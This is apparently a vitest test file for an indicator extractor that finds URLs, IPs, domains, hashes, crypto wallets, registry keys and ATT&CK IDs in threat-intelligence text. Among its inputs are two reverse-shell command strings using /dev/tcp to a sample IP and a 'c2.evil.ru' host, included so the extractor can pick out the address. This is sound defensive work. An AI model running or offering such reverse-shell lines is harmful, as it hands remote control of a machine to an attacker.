import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { growth, nearlyLinear } from '../../../scripts/test-growth.ts'
import { extract } from './extract.ts'

/** As the unit `binary` of fast-check, which takes a second to make. */
const anyCharacter = fc.nat(0x10f7ff).map((n) => String.fromCodePoint(n < 0xd800 ? n : n + 0x800))

const found = (text: string) => extract(text).map(({ dataType, value }) => `${dataType} ${value}`)

describe('extraction from running text', () => {
  it.each([
    ['See hxxps://evil[.]example/a?b=1.', ['url https://evil.example/a?b=1']],
    ['(see https://evil.example/a)', ['url https://evil.example/a']],
    ['https://en.example/wiki/A_(b)', ['url https://en.example/wiki/A_(b)']],
    ['<a href="http://a.example/x">b</a>', ['url http://a.example/x']],
    ['[link](https://a.example/x)', ['url https://a.example/x']],
    ['http://a.example/1,http://b.example/2', ['url http://a.example/1', 'url http://b.example/2']],
    ['http://a.example/x,y', ['url http://a.example/x,y']],
    ['u=http://a.example/', ['url http://a.example/']],
    ['from 10.0.0.1 to 8[.]8[.]8[.]8:53, done.', ['ip 10.0.0.1', 'ip 8.8.8.8']],
    ['src=10.0.0.1;dst=2001:db8::1', ['ip 10.0.0.1', 'ip 2001:db8::1']],
    ['block 192.0.2.0/24!', ['network 192.0.2.0/24']],
    ['ask joe[at]evil[.]example, please', ['mail joe@evil.example']],
    ['<joe@evil.example>', ['mail joe@evil.example']],
    ['fixed in CVE-2021-44228.', ['cve CVE-2021-44228']],
    ['md5:44d88612fea8a8f36de82e1278abb02f', ['hash 44d88612fea8a8f36de82e1278abb02f']],
    ['the host evil.example/login was', ['domain evil.example']],
    ['visit www.evil.example.', ['fqdn www.evil.example']],
    ['key HKLM\\Software\\Run, set', ['registry HKLM\\Software\\Run']],
    [
      'agent Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) and so on',
      ['user-agent Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)'],
    ],
    ['AS15169 announces it', ['autonomous-system AS15169']],
    ['it ends.The next, e.g. i.am at 12:30, v1.2.3 readme.md std::vector', []],
    ['999.999.999.999 and 1.2.3', []],
    ['', []],
  ])('%j holds %j', (text, expected) => {
    expect(found(text)).toEqual(expected)
  })

  it.each([
    'OpenSSL 1.1.1.24',
    'v1.2.3.4',
    'File version: 6.1.0.17',
    'FileVersion="6.1.0.17"',
    '"version": "1.2.3.4"',
    'System.Core, Version=4.0.0.0, Culture=neutral',
    'versions 1.1.1.1, 1.1.1.2 and 1.1.1.24 are affected',
    'all versions before 1.1.1.24',
    'Mozilla/5.0 Chrome/100.0.0.0',
    'see section 1.2.3.4',
    'asp.net and ASP.NET, System.IO, System.Net, java.io, org.apache.commons.io',
    'error in main.rs and src/main.rs:12:5, lib.rs',
    'sections .plt.got and .rela.plt',
    'configurations.map(x), this.name, event.data, date.now',
    'it ends.It goes on',
    'logger.info("x"); m.group(1); re.search(a, b)',
    'if (job.id === other.name) return deps.clock.now',
    'from pygments.lexers.data import X',
    'pip._vendor.rich install_progress.run',
    'è9ó.se ôœ.is þãk@ÿò.se',
    'an AS400 by AS2',
  ])('%j holds nothing', (text) => {
    expect(found(text)).toEqual([])
  })

  it.each([
    ['server 1.1.1.24', 'ip 1.1.1.24'],
    ['version 2 was sent to 1.2.3.4', 'ip 1.2.3.4'],
    ['Protocol version 2.0 from 45.77.12.9', 'ip 45.77.12.9'],
    ['version mismatch at 1.2.3.4:443', 'ip 1.2.3.4'],
    ['ping -v 1.2.3.4', 'ip 1.2.3.4'],
    ['bash -i >& /dev/tcp/45.77.12.9/4444', 'ip 45.77.12.9'],
    ['exec 5<>/dev/tcp/c2.evil.ru/443', 'fqdn c2.evil.ru'],
    ['nginx at 10.0.0.5', 'ip 10.0.0.5'],
    ['www.asp.net', 'fqdn www.asp.net'],
    ['bücher.de', 'domain bücher.de'],
    ['пример.рф', 'domain пример.рф'],
    ['shop.rs', 'domain shop.rs'],
    ['evil.io', 'domain evil.io'],
    ['it called evil.info and left', 'domain evil.info'],
    ['const host = "evil.info";', 'domain evil.info'],
    ["fetch('evil.run')", 'domain evil.run'],
    ['x = 1 # see evil.com', 'domain evil.com'],
    ['open(bad-site.link)', 'domain bad-site.link'],
    ['blocked (evil.site)', 'domain evil.site'],
    ['src=evil.online dst=x', 'domain evil.online'],
    ['\\\\evil.ru\\share', 'domain evil.ru'],
    ['Amazon.Com', 'domain amazon.com'],
  ])('%j holds %s', (text, expected) => {
    expect(found(text)).toEqual([expected])
  })

  const kinds = (text: string) =>
    extract(text).map(({ dataType, kind, value }) => [dataType, kind, value])

  it.each([
    ['pay to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa.', 'bitcoin', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'],
    [
      'bitcoin:3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy?amount=1',
      'bitcoin',
      '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy',
    ],
    [
      'BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4',
      'bitcoin',
      'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
    ],
    [
      'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0',
      'bitcoin',
      'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0',
    ],
    [
      '(0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed)',
      'ethereum',
      '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
    ],
    [
      'xmr:44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
      'monero',
      '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
    ],
    ['ether 00:1A:2b:3C:4d:5E up', 'mac-address', '00:1a:2b:3c:4d:5e'],
    ['00-1A-2B-3C-4D-5E', 'mac-address', '00:1a:2b:3c:4d:5e'],
    ['port 001a.2b3c.4d5e', 'mac-address', '00:1a:2b:3c:4d:5e'],
    [
      'ssdeep: 3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C',
      'ssdeep',
      '3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C',
    ],
    [
      '96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx+:sF1LjEtHHlZDrJzrhuyZvHYm8tKp/RWO',
      'ssdeep',
      '96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx+:sF1LjEtHHlZDrJzrhuyZvHYm8tKp/RWO',
    ],
    ['uses PowerShell (T1059.001)', 'attack-technique', 'T1059.001'],
    ['T1566, then', 'attack-technique', 'T1566'],
    ['initial access TA0001', 'attack-tactic', 'TA0001'],
  ])('%j holds a value of the kind %s', (text, kind, value) => {
    expect(kinds(text)).toEqual([['other', kind, value]])
  })

  it.each([
    ['a letter of it is wrong', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb'],
    ['a letter of it is wrong', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5'],
    ['its capitals are wrong', '0x5AAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
    ['it is a filler', '0x0000000000000000000000000000000000000000'],
    [
      'a letter of it is wrong',
      '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3B',
    ],
    ['it stands for all', 'ff:ff:ff:ff:ff:ff'],
    ['it is a fingerprint', '00:1a:2b:3c:4d:5e:00:1a:2b:3c:4d:5e:00:1a:2b:3c:4d:5e:00:1a'],
    ['it is a time', '12:30:45'],
    ['it is a place in a source file', '48:undefinedsymbol:reference'],
    ['it is a number', '1234.5678.9012'],
    ['it is a film', 'T1000 T800 T1234567'],
  ])('is not taken in when %s: %s', (_, text) => {
    expect(found(text)).toEqual([])
  })

  it.each([
    [
      'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon is set',
      'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
    ],
    ['Set-Item HKCU:\\Software\\Run.', 'HKCU\\Software\\Run'],
    ['hkey_current_user\\Control Panel\\Desktop', 'hkey_current_user\\Control Panel\\Desktop'],
    ['HKLM\\A\\Run and HKLM', 'HKLM\\A\\Run'],
  ])('%j holds a key of the registry', (text, key) => {
    expect(found(text)).toEqual([`registry ${key}`])
  })

  it('names each one once, in the order of its first appearance, and counts', () => {
    expect(extract('b.example a.example B.EXAMPLE')).toMatchObject([
      { value: 'b.example', count: 2, position: 0 },
      { value: 'a.example', count: 1 },
    ])
  })

  it('stops at the number that was asked for', () => {
    const text = Array.from({ length: 50 }, (_, at) => `10.0.0.${at}`).join(' ')
    expect(extract(text, { max: 10 })).toHaveLength(10)
  })

  it.each([
    ['blanks', ' '],
    ['opening brackets', '['],
    ['dots in brackets', '[.]'],
    ['blank and bracket', ' ['],
    ['closing parentheses', ')'],
    ['colons', ':'],
    ['scheme ends', '://'],
    ['schemes', 'http://'],
    ['at-signs', 'a@'],
    ['labels', 'a.'],
    ['hex digits', 'ab'],
    ['numbers', '1.'],
    ['agents', 'Mozilla/5.0 ('],
    ['registry', 'HKLM\\'],
    ['commas', ','],
    ['commas and schemes', ',a://'],
    ['backslashes', '\\'],
    ['hx', 'hxx'],
    ['addresses', 'http://a.example/x '],
    ['coins', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed '],
    ['wrong coins', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb '],
    ['versions', 'version 1.1.1.1, '],
    ['registry with blanks', 'HKLM\\Windows NT'],
    ['log', 'Nov 15 05:00:01 host sshd[123]: Failed password for root from 8.8.4.4 port 22\n'],
  ])('takes time in proportion to the length of many %s', async (_, unit) => {
    const textOf = (times: number) => unit.repeat(Math.floor((50_000 * times) / unit.length))
    expect(await growth(textOf, extract)).toBeLessThan(nearlyLinear)
  })

  it.each([
    ['parentheses', 'http://a.example/', ')'],
    ['schemes', '', 'a://'],
    ['at-signs', '', 'a@'],
    ['dots', '', 'a.'],
    ['commas', '', 'a.example,'],
    ['colons', '', 'ab:'],
  ])('takes time in proportion to the length of runs of %s', async (_, start, unit) => {
    const textOf = (times: number) =>
      `${start}${unit.repeat(Math.floor((8_000 * times) / unit.length))} `.repeat(10)
    expect(await growth(textOf, extract)).toBeLessThan(nearlyLinear)
  })

  it('finds in a megabyte of a log what is in it', () => {
    const line = 'Nov 15 05:00:01 host sshd[123]: Failed password for root from 8.8.4.4 port 22\n'
    expect(found(line.repeat(Math.ceil(1_000_000 / line.length)))).toEqual(['ip 8.8.4.4'])
  })

  it('answers for every text', () => {
    fc.assert(
      fc.property(fc.string({ unit: anyCharacter, maxLength: 500 }), (text) => {
        expect(Array.isArray(extract(text))).toBe(true)
      }),
    )
  })

  it('finds an address wherever it stands between blanks', () => {
    fc.assert(
      fc.property(fc.ipV4(), fc.lorem(), (ip, words) => {
        expect(found(`${words} ${ip} ${words}`)).toContain(`ip ${ip}`)
      }),
    )
  })
})
